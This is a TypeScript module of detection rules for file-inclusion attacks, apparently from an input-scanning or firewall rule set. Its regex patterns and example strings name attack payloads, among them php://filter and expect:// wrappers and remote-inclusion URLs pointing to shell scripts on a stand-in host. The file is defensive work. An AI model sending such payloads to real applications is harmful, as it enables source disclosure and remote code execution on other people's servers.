/** File inclusion: stream wrappers and remote scripts as the name of a file to include. */
import { rule } from '../rule.ts';

export const fileInclusionRules = [
  rule({
    id: 'baseline.file-inclusion.stream-wrapper',
    class: 'file-inclusion',
    message: 'A stream wrapper of PHP or Java as the name of a file',
    explanation:
      'php://filter, expect://, phar://, zip:// and the like make an include statement read or run something else. They are written nowhere but in programs.',
    patterns: [
      '(?:^|[\\s=,;"\'(])(?:php://(?:filter|input|fd|memory|temp|stdin|output)|(?:expect|phar|zip|zlib|compress\\.zlib|compress\\.bzip2|glob|ogg|rar|ssh2(?:\\.\\w+)?|netdoc|jar:(?:http|https|ftp|file))://?)',
      '^data:(?:text/plain|//text/plain|application/x-httpd-php)?;base64,PD9',
      '^data:[^,]*,\\s*<\\?',
      'php://filter/|convert\\.base64-encode/resource',
    ],
    examples: {
      attacks: ['php://filter/convert.base64-encode/resource=index', 'phar://upload.jpg', 'expect://id'],
      benign: ['https://example.com/php', 'zip: 12345', 'data:image/png;base64,iVBORw0KGgo=', 'expect: 100'],
    },
  }),
  rule({
    id: 'baseline.file-inclusion.remote-script',
    class: 'file-inclusion',
    message: 'A remote script file as a value, with the query that cuts off a suffix',
    explanation:
      'A URL of a .php, .txt or .jsp file that ends in a question mark or NUL is the classic remote inclusion: the mark swallows the suffix that the program adds. Links of people do not end so.',
    confidence: 'medium',
    patterns: ['^(?:https?|ftps?)://[^\\s?#]+\\.(?:txt|php\\d?|jsp|asp|gif|jpg|inc)(?:\\?+|%00|\\x00)$'],
    examples: {
      attacks: ['http://host.example/shell.txt?', 'ftp://host.example/c99.php??'],
      benign: ['https://example.com/a.php?id=1', 'https://example.com/readme.txt'],
    },
  }),
];
